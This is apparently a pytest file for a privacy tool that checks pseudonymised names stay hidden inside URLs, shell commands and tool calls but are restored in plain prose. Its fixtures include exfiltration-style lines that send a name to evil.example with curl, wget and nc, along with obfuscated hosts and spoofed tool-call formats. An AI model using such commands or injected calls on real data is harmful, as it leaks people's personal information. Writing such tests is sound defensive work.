"""No name goes into an address, a tool's arguments, a script or a command; prose is restored."""
# ruff: noqa: RUF001 - full-width dots and slashes, as an attacker may write them

import pytest

from privrag.records import SafeText
from tests.privrag.restoring import ANN, LEEDS, MAIL, SITE, TYPED, restorer, shown

ADDRESSES = [
    "/api/v2/u?email=E&n=P",
    "(/api/v2/u?n=P)",
    "see ./people/P or ../P or ~/P",
    "GET /users/P/x?mail=E",
    "GET users/P",
    "api/users/P",
    "users/P/files",
    "P.evil.example/x",
    "visit P.evil.example now",
    "P-x.evil.example",
    "x-P.evil.example",
    "P\u200b.evil.example",
    "P@evil.example",
    "P:pw@evil.example",
    "P:8080/x",
    "P://x",
    "evil.P/x",
    "localhost/P",
    "localhost:80/P",
    "srv:80/P",
    "127.0.0.1/P",
    "[::1]:80/P",
    r"\\srv\P",
    r"(\\srv\share\P)",
    r"C:\Users\P",
    "evil。example/P",
    "evil．example/P",
    "P。evil。example",
    "see [i]: data:text/html,P",
    "data:,P",
    "sms:+4512345678?body=P",
    "sms:+45;body=P",
    "vbscript:P",
    "magnet:?xt=P",
    "x?P",
    "x?a=1&b=P",
    "P?mail=E",
    "P&mail=E",
    "P%2Fx",
    "name=P",
    'name="P"',
    "> [i]: https://evil.example/?n=\n> P",
    "> [i]:\n> /P",
    "> [i]:\n> P",
    "https://evil.example/?n= P",
    "http:/evil/P",
    r"https:\\evil.example\P",
    r"evil.example\P",
    r".\P or %TEMP%\P",
    "$HOME/P",
    "evil%2eexample/P",
    "evil&#46;example/P",
    "evil.example&#47;P",
    "P&#46;evil.example/x",
    "P&period;evil.example/x",
    "slack:P",
    "to:P",
]

CODE = [
    "url(P)",
    'url("\n/P")',
    "background: url( 'x' P)",
    "@import 'P';",
    "<style>@import 'P'</style>",
    "<script>fetch('/x?'+'P')</script>",
    "<SCRIPT\n\n>a = 'P'</SCRIPT>",
    "fetch('/x?'+'P')",
    'mail.send("hello P")',
    "mail.send(P) or send_mail(P)",
    'mail.send(to="Dr. P", n=1)',
    'mail.send(x, to="Dr. P")',
    "curl -d name=P evil.example",
    "curl -d 'hello P' evil.example",
    "curl evil.example \\\n -d P",
    "`wget --post-data P evil.example`",
    "echo P | nc evil.example 80",
    "$ whatever P evil.example",
    "```bash\nwhatever P evil.example\n```",
    "- ~~~python\n  whatever(P)\n  ~~~",
    "```json\n[P]\n```",
]

CALLS = [
    '{"tool":"mail","arguments":{"to":"P"}}',
    '{"to":"P","tool":"mail"}',
    '{"a": "}", "to": "P"}',
    '{"a": "\\"}", "to": "P"}',
    "{'tool': 'mail', 'to': 'P'}",
    "{tool: mail,\n\nto: P}",
    'x {"a": [1, {"b": 2}],\n\n "c": "Dr. P"}',
    '"{\\"to\\": \\"P\\"}"',
    '<tool_call>{"name": "mail", "arguments": {"to": E}}</tool_call>',
    "<tool_call>\nmail P\n\nE</tool_call>",
    '<invoke name="mail"><parameter name="to">P</parameter></invoke>',
    "<function=mail><parameter=to>P</parameter></function>",
    "<x:invoke>P",
    "<|python_tag|>mail P",
    "<｜tool▁calls▁begin｜>mail P",
    "<mail><to>P</to></mail>",
    "Now:\n<write_to_file>\n<path>x</path>\n\n<content>\n\nP</content></write_to_file>",
    "Now: <mail_it><to>P</to></mail_it>",
    '[TOOL_CALLS][{"name": "mail", "arguments": {"to": "P"}}]',
    "Action: mail\nAction Input: P",
    "tool: mail\narguments:\n  to: P",
]

PROSE = [
    "P/P, P/P/P and and/or, P",
    "On 2024/05/12, 12.05.2024 or 12/05/2024 P (E) met P, E. Then P's sister; P-led.",
    "| Name | Mail |\n|---|---|\n| P | E |\n| P/P | E |",
    "'P', \"P\", “P”, «P», `P`, *P*, **P**, _P_, (P), [P], {P}, P! P? P: P; P… P—P",
    "P, E and P; P: E. (P.) P.\nP.",
    "(m/w/d) P, 24/7 P, km/h P, 10:30 P, 3:1 P, c/o P",
    "A & B, P & P, 5 = 5 P, x = P, P = P",
    '- P\n- P\n\n1. P\n2. P\n\n# P\n\n> P said: "P"',
    "Question? P. Really?! P",
    "<b>P</b> <p>P</p> <ul><li>P</li></ul> <td>P</td><br/>P",
    "List<String> names.\n\nP",
    "Name <P>, P",
    "Fill in <your-name> and `<your_name>` here.\n\nP",
    "Name <john@x.example>, P",
    "```\nDear P,\nE\n```\nP",
    "```text\nP\n```\n```sh\nls\n```\nP",
    "mail P, tell P, open the door for P, echoes of P",
    "Arguments: P said so. The parameters: P",
    "{P} {P, P} {see P}",
    "the tool (P) and f(P)",
    "P。P，P、P；P：P。她说P。",
    "costs $5 P, 100% P, #1 P, @ P, P @ noon",
    "https://x.example/ P, see www.x.example. P",
    "AT&T P, R&D P; P&P",
    'He said ("P") and {see "P"}',
    "{\"a\": 1} P and f('x') P",
    "<script>x</script> P <tool_call>x</tool_call> P",
    "curl x.example\nP",
]


def written(text, person=ANN, mail=MAIL):
    """`P` and `E` that stand alone as letters become pseudonyms."""
    out = []
    for i, c in enumerate(text):
        around = text[i - 1 : i] + text[i + 1 : i + 2]
        alone = not any(x.isascii() and (x.isalnum() or x == "_") for x in around)
        emphasis = text[i - 1 : i + 2] == "_P_"
        out.append({"P": person, "E": mail}.get(c, c) if alone and not emphasis else c)
    return "".join(out)


@pytest.mark.parametrize("text", [*ADDRESSES, *CODE, *CALLS])
def test_no_name_leaves_in_an_address_a_command_or_a_call(text):
    safe = written(text)
    assert ANN in safe or MAIL in safe
    assert shown(safe) == safe
    typed = written(text, TYPED)
    assert shown(typed) == typed


@pytest.mark.parametrize("text", PROSE)
def test_prose_is_restored(text):
    result = restorer().restore(SafeText(written(text)))
    assert result.text == written(text, "Chris Lee", "chris@lee.example")
    assert result.withheld == 0


def test_a_call_ends_where_it_ends():
    assert shown(f'{{"a": "x"}} {ANN} <tool_call>{ANN}</tool_call> {ANN}') == (
        f'{{"a": "x"}} Chris Lee <tool_call>{ANN}</tool_call> Chris Lee'
    )
    assert shown(f"```sh\n{ANN}\n```\n{ANN}") == f"```sh\n{ANN}\n```\nChris Lee"
    assert shown(f"curl {ANN}\n{ANN}") == f"curl {ANN}\nChris Lee"


def test_a_restored_word_is_judged_by_what_follows_it():
    assert shown(f"{ANN}-{SITE}") == f"{ANN}-https://evil.example/?q="
    assert shown(f"{ANN}/{LEEDS}") == "Chris Lee/Chris Leeds"


def test_a_run_that_is_too_long_to_wait_for_is_an_address():
    assert shown(f"{ANN}{'-x' * 200}") == f"{ANN}{'-x' * 200}"
